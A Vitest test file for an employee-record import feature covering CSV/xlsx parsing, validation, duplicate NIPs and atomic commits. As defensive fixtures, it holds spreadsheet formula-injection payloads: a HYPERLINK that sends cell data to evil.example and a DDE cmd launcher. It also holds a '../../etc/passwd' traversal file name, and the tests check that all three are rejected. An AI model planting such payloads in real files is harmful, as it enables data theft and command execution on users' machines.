import { randomBytes } from 'node:crypto';
import { promises as fsp } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportPreview } from '../../../../../shared/masterdata/import';
import {
  expectFail,
  expectOk,
  folderSnapshot,
  masterFile,
  peopleOnDisk,
  personInput,
  prepareDataDir,
  useHarness,
  type Harness,
} from '../../handlers/harness';
import { HEADER, csvBase64, nipFor, row, xlsxBytes } from './fixtures';

const harness = useHarness();

let demoTemplate: { dir: string; remove(): Promise<void> };
beforeAll(async () => {
  demoTemplate = await prepareDataDir(async (dispatch) => {
    expectOk(await dispatch('demo:load', {}));
  });
});
afterAll(async () => {
  await demoTemplate.remove();
});

/** A harness on a fresh copy of a folder with the demo data (Bapenda, Disdukcapil, kecamatan …). */
function withDemo(): Promise<Harness> {
  return harness.openCopy(demoTemplate.dir);
}

/** Previews a file and checks that previewing wrote nothing. */
async function preview(h: Harness, fileName: string, dataBase64: string): Promise<ImportPreview> {
  const before = await folderSnapshot(h.dataDir);
  const result = expectOk(await h.call('people:importPreview', { fileName, dataBase64 }));
  expect(await folderSnapshot(h.dataDir)).toEqual(before);
  expect(result.fileName).toBe(fileName);
  expect(result.validCount + result.invalidCount).toBe(result.rows.length);
  return result;
}

const reasonsOf = (p: ImportPreview, rowNumber: number): string[] => p.rows.find((r) => r.row === rowNumber)?.reasons ?? ['(baris tidak ada)'];

/** A preview with file errors: nothing importable, and its id cannot be committed. */
async function expectNothingImportable(h: Harness, p: ImportPreview, fragment: string): Promise<void> {
  expect(p.fileErrors.join(' ')).toContain(fragment);
  expect(p).toMatchObject({ rows: [], validCount: 0, invalidCount: 0 });
  const before = await masterFile(h.dataDir);
  expectFail(await h.call('people:importCommit', { previewId: p.previewId }), 'NOT_FOUND');
  expect(await masterFile(h.dataDir)).toEqual(before);
}

describe('people:importPreview — CSV', () => {
  it('reads a ";" CSV (Excel with Indonesian settings)', async () => {
    const h = await withDemo();
    const p = await preview(h, 'pegawai.csv', csvBase64([HEADER, row(1), row(2, { unit: 'Kecamatan Ciruas' }), row(3, { unit: 'disdukcapil' })], ';'));
    expect(p.fileErrors).toEqual([]);
    expect(p.rows.map((r) => [r.row, r.status, r.reasons])).toEqual([
      [2, 'valid', []],
      [3, 'valid', []],
      [4, 'valid', []],
    ]);
    expect(p.validCount).toBe(3);
  });

  it('reads a "," CSV with quoted fields', async () => {
    const h = await withDemo();
    const p = await preview(
      h,
      'pegawai.csv',
      csvBase64([HEADER, row(1, { nama: 'Fauzi, S.E., M.Si.', jabatan: 'Kepala "Bidang" Pendapatan' }), row(2, { jabatan: 'Analis\nKebijakan' })], ','),
    );
    expect(p.rows.map((r) => [r.status, r.nama, r.jabatan])).toEqual([
      ['valid', 'Fauzi, S.E., M.Si.', 'Kepala "Bidang" Pendapatan'],
      ['valid', 'Pegawai Impor 2', 'Analis\nKebijakan'],
    ]);
  });

  it('accepts the usual spellings of jenis and pangkat/golongan', async () => {
    const h = await withDemo();
    const p = await preview(
      h,
      'pegawai.csv',
      csvBase64([
        HEADER,
        row(1, { golongan: 'Penata Muda, III/a' }),
        row(2, { jenis: 'ASN PNS', golongan: 'iv-b' }),
        row(3, { jenis: 'PPPK', nip: '199001012023212150', golongan: 'Golongan IX' }),
        row(4, { jenis: 'Non ASN', nip: '', golongan: '-' }),
        row(5, { jenis: 'Honorer', nip: '-', golongan: '' }),
      ]),
    );
    expect(p.rows.map((r) => [r.row, r.status, r.reasons])).toEqual([2, 3, 4, 5, 6].map((n) => [n, 'valid', []]));
  });

  it('explains every invalid row with its row number', async () => {
    const h = await withDemo();
    const p = await preview(
      h,
      'pegawai.csv',
      csvBase64([
        HEADER,
        row(1),
        row(2, { nip: '197013182005031005' }),
        row(3, { unit: 'Dinas Antah Berantah' }),
        row(4, { jenis: 'ASN' }),
        row(5, { jenis: 'PPPK', nip: '199001012023212151', golongan: 'XVIII' }),
        row(6, { nama: '' }),
        row(7, { jenis: 'Non-ASN', nip: '', golongan: 'III/a' }),
      ]),
    );
    expect(p.validCount).toBe(2); // rows 2 and 8 (non-ASN: golongan ignored)
    expect(reasonsOf(p, 3).join(' ')).toContain('Tanggal lahir pada NIP');
    expect(reasonsOf(p, 4)).toEqual(['Unit kerja "Dinas Antah Berantah" tidak ditemukan di daftar unit kerja.']);
    expect(reasonsOf(p, 5).join(' ')).toContain('Jenis "ASN" tidak dikenal');
    expect(reasonsOf(p, 6)).toEqual(['Golongan PPPK harus I sampai XVII.']);
    expect(reasonsOf(p, 7)).toEqual(['Nama wajib diisi.']);
    for (const r of p.rows.filter((x) => x.status === 'invalid')) expect(r.reasons.length).toBeGreaterThan(0);
  });

  it('refuses a unit that was deactivated', async () => {
    const h = await withDemo();
    expectOk(await h.call('units:setActive', { id: 'demo-bapenda', aktif: false }));
    const p = await preview(h, 'pegawai.csv', csvBase64([HEADER, row(1)]));
    expect(reasonsOf(p, 2)).toEqual(['Unit kerja "Bapenda" tidak ditemukan di daftar unit kerja.']);
  });

  it('marks formula cells invalid with the reason', async () => {
    const h = await withDemo();
    const p = await preview(
      h,
      'pegawai.csv',
      csvBase64([HEADER, row(1, { nama: '=HYPERLINK("http://evil.example/?d="&A1,"klik")' }), row(2, { jabatan: '@SUM(1+1)*cmd|"/C calc"!A0' }), row(3)], ','),
    );
    expect(p.rows.map((r) => r.status)).toEqual(['invalid', 'invalid', 'valid']);
    expect(reasonsOf(p, 2)).toContain('Kolom nama: berisi rumus; isi dengan nilai biasa.');
    expect(reasonsOf(p, 3)).toContain('Kolom jabatan: berisi rumus; isi dengan nilai biasa.');
  });

  it('refuses a file with wrong columns: nothing importable', async () => {
    const h = await withDemo();
    const p = await preview(h, 'pegawai.csv', csvBase64([['name', 'id', 'type', 'rank', 'position', 'office'], ['Budi', nipFor(1), 'PNS', 'III/a', 'Analis', 'Bapenda']]));
    await expectNothingImportable(h, p, 'Kolom wajib tidak ditemukan: nama, nip, jenis, pangkat/golongan, jabatan, unit.');
  });

  it('names the one missing column', async () => {
    const h = await withDemo();
    const p = await preview(h, 'pegawai.csv', csvBase64([HEADER.slice(0, 5), row(1).slice(0, 5)]));
    await expectNothingImportable(h, p, 'Kolom wajib tidak ditemukan: unit.');
  });

  it('refuses a header without rows, and a blank file', async () => {
    const h = await withDemo();
    await expectNothingImportable(h, await preview(h, 'pegawai.csv', csvBase64([HEADER])), 'tidak berisi baris data');
    await expectNothingImportable(h, await preview(h, 'pegawai.csv', Buffer.from('\r\n \r\n').toString('base64')), 'Berkas kosong');
  });

  it('refuses 10,000 rows with a clear file error', async () => {
    const h = await withDemo();
    const rows = [HEADER, ...Array.from({ length: 10_000 }, (_, i) => row(i))];
    const p = await preview(h, 'pegawai.csv', csvBase64(rows));
    await expectNothingImportable(h, p, 'Berkas berisi 10.000 baris data; paling banyak 5.000 baris per impor.');
  });

  it('refuses a file type it does not read, whatever the name', async () => {
    const h = await withDemo();
    for (const name of ['pegawai.xls', '../../etc/passwd', 'C:\\Windows\\System32\\pegawai.ods', 'x'.repeat(195) + '.pdf']) {
      await expectNothingImportable(h, await preview(h, name, csvBase64([HEADER, row(1)])), 'Jenis berkas tidak didukung');
    }
    const files = [...(await folderSnapshot(h.dataDir)).keys()];
    expect(files.some((file) => file.includes('passwd') || file.includes('pegawai'))).toBe(false);
  });
});

describe('people:importPreview — duplicates', () => {
  it('refuses a NIP repeated in the file, naming the first row', async () => {
    const h = await withDemo();
    const p = await preview(h, 'pegawai.csv', csvBase64([HEADER, row(1), row(2), row(3, { nip: nipFor(1).replace(/^(\d{8})(\d{6})/, '$1 $2 ') })]));
    expect(p.rows.map((r) => r.status)).toEqual(['valid', 'valid', 'invalid']);
    expect(reasonsOf(p, 4)).toEqual(['NIP sama dengan baris 2.']);
  });

  it('refuses a NIP already in the store, naming its owner', async () => {
    const h = await withDemo();
    const existing = expectOk(await h.call('people:list', { unitId: 'demo-bapenda' })).find((p) => p.jenisAsn === 'PNS');
    if (!existing) throw new Error('demo data has a PNS in Bapenda');
    const p = await preview(h, 'pegawai.csv', csvBase64([HEADER, row(1, { nip: existing.nip }), row(2)]));
    expect(p.rows.map((r) => r.status)).toEqual(['invalid', 'valid']);
    expect(reasonsOf(p, 2)).toEqual([`NIP sudah terdaftar atas nama ${existing.nama.replace(/\.$/, '')}.`]);
  });
});

describe('people:importPreview — xlsx', () => {
  it('reads valid rows from an .xlsx and imports them', async () => {
    const h = await withDemo();
    const bytes = await xlsxBytes([HEADER, row(1), row(2, { unit: 'DPMPTSP' })]);
    const p = await preview(h, 'pegawai.xlsx', bytes.toString('base64'));
    expect(p.rows.map((r) => [r.row, r.status])).toEqual([
      [2, 'valid'],
      [3, 'valid'],
    ]);
    expect(expectOk(await h.call('people:importCommit', { previewId: p.previewId }))).toEqual({ imported: 2 });
  });

  it('marks a formula cell invalid with the reason', async () => {
    const h = await withDemo();
    const formulaRow: (string | { formula: string; result: string })[] = row(1);
    formulaRow[0] = { formula: 'HYPERLINK("http://evil.example","Klik di sini")', result: 'Klik di sini' };
    const p = await preview(h, 'pegawai.xlsx', (await xlsxBytes([HEADER, formulaRow, row(2)])).toString('base64'));
    expect(p.rows.map((r) => r.status)).toEqual(['invalid', 'valid']);
    expect(reasonsOf(p, 2)).toContain('Kolom nama: berisi rumus; isi dengan nilai biasa.');
  });

  it('marks a NIP stored as a number invalid (digits lost)', async () => {
    const h = await withDemo();
    const numeric: (string | number)[] = row(1);
    numeric[1] = Number(nipFor(1));
    const p = await preview(h, 'pegawai.xlsx', (await xlsxBytes([HEADER, numeric, row(2)])).toString('base64'));
    expect(p.rows.map((r) => r.status)).toEqual(['invalid', 'valid']);
    expect(reasonsOf(p, 2).join(' ')).toContain('Kolom nip: angka terlalu panjang tersimpan sebagai bilangan');
  });

  it('refuses 10 MB of random junk named .xlsx', async () => {
    const h = await withDemo();
    const junk = randomBytes(10 * 1024 * 1024);
    junk[0] = 0x00; // not a zip signature
    await expectNothingImportable(h, await preview(h, 'pegawai.xlsx', junk.toString('base64')), 'bukan buku kerja Excel');
  });

  it('refuses junk that starts like a zip', async () => {
    const h = await withDemo();
    const junk = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), randomBytes(256 * 1024)]);
    await expectNothingImportable(h, await preview(h, 'pegawai.xlsx', junk.toString('base64')), 'bukan .xlsx yang valid atau rusak');
  });

  it('refuses a workbook with wrong columns', async () => {
    const h = await withDemo();
    const bytes = await xlsxBytes([['DAFTAR PEGAWAI'], ['nama', 'nip'], ['Budi', nipFor(1)]]);
    await expectNothingImportable(h, await preview(h, 'pegawai.xlsx', bytes.toString('base64')), 'Kolom wajib tidak ditemukan');
  });
});

describe('people:importCommit', () => {
  it('writes every valid row in one step, and only the valid rows', async () => {
    const h = await withDemo();
    const masterPath = path.join(h.dataDir, 'master.json');
    const before = await fsp.readFile(masterPath, 'utf8');
    const peopleBefore = await peopleOnDisk(h.dataDir);
    const p = await preview(h, 'pegawai.csv', csvBase64([HEADER, row(1), row(2, { unit: 'xxx' }), row(3), row(4, { unit: 'Kecamatan Petir' })]));
    expect(p.validCount).toBe(3);

    expect(expectOk(await h.call('people:importCommit', { previewId: p.previewId }))).toEqual({ imported: 3 });

    const after = await peopleOnDisk(h.dataDir);
    expect(after.length).toBe(peopleBefore.length + 3);
    const imported = after.filter((person) => person.nama.startsWith('Pegawai Impor'));
    expect(imported.map((person) => [person.nama, person.nip, person.unitId])).toEqual([
      ['Pegawai Impor 1', nipFor(1), 'demo-bapenda'],
      ['Pegawai Impor 3', nipFor(3), 'demo-bapenda'],
      ['Pegawai Impor 4', nipFor(4), 'demo-kec-petir'],
    ]);
    // One durable write: the previous good copy is exactly the file from before the commit.
    expect(await fsp.readFile(`${masterPath}.bak`, 'utf8')).toBe(before);
  });

  it('refuses a second commit of the same preview', async () => {
    const h = await withDemo();
    const p = await preview(h, 'pegawai.csv', csvBase64([HEADER, row(1)]));
    expectOk(await h.call('people:importCommit', { previewId: p.previewId }));
    const before = await masterFile(h.dataDir);
    const error = expectFail(await h.call('people:importCommit', { previewId: p.previewId }), 'NOT_FOUND');
    expect(error.message).toContain('Unggah berkas sekali lagi');
    expect(await masterFile(h.dataDir)).toEqual(before);
  });

  it('refuses a commit after the master data changed (CONFLICT) and writes nothing', async () => {
    const h = await withDemo();
    const p = await preview(h, 'pegawai.csv', csvBase64([HEADER, row(1), row(2)]));
    // Someone registers row 2's NIP meanwhile: the preview's checks no longer hold.
    expectOk(await h.call('people:create', personInput('demo-bapenda', { nama: 'Pendaftar Lain', nip: nipFor(2) })));
    const before = await masterFile(h.dataDir);
    const error = expectFail(await h.call('people:importCommit', { previewId: p.previewId }), 'CONFLICT');
    expect(error.message).toContain('berubah sejak pratinjau');
    expect(await masterFile(h.dataDir)).toEqual(before);
    expectFail(await h.call('people:importCommit', { previewId: p.previewId }), 'NOT_FOUND');
  });

  it('adds a batch only when every row passes: a NIP repeated in the batch or already registered, or an unknown unit, writes nothing', async () => {
    const h = await withDemo();
    const before = await masterFile(h.dataDir);
    const taken = (await peopleOnDisk(h.dataDir)).find((person) => person.nip !== '');
    if (!taken) throw new Error('the demo data has people with a NIP');
    const batch = (n: number, overrides: Partial<ReturnType<typeof personInput>> = {}) =>
      personInput('demo-bapenda', { nama: `Pegawai Impor ${n}`, nip: nipFor(n), ...overrides });
    const twice = await h.services.master.addPeople([batch(1), batch(2), batch(3, { nip: nipFor(1) })]).catch((error: unknown) => error);
    expect(twice).toMatchObject({ code: 'DUPLICATE', message: 'NIP ini sudah terdaftar atas nama Pegawai Impor 1.' });
    const registered = await h.services.master.addPeople([batch(1), batch(2, { nip: taken.nip })]).catch((error: unknown) => error);
    expect(registered).toMatchObject({ code: 'DUPLICATE', message: `NIP ini sudah terdaftar atas nama ${taken.nama.replace(/\.$/, '')}.` });
    const unit = await h.services.master.addPeople([batch(1), batch(2, { unitId: 'tidak-ada' })]).catch((error: unknown) => error);
    expect(unit).toMatchObject({ code: 'NOT_FOUND', message: 'Unit kerja pegawai tidak ditemukan.' });
    expect(await masterFile(h.dataDir)).toEqual(before);
    expect(await h.services.master.addPeople([batch(1), batch(2, { jenisAsn: 'NON_ASN', nip: '', golongan: '' }), batch(3, { jenisAsn: 'NON_ASN', nip: '', golongan: '' })])).toBe(3);
  });

  it('does not keep a preview without valid rows', async () => {
    const h = await withDemo();
    const p = await preview(h, 'pegawai.csv', csvBase64([HEADER, row(1, { unit: 'tidak ada' })]));
    expect(p.validCount).toBe(0);
    expectFail(await h.call('people:importCommit', { previewId: p.previewId }), 'NOT_FOUND');
  });
});
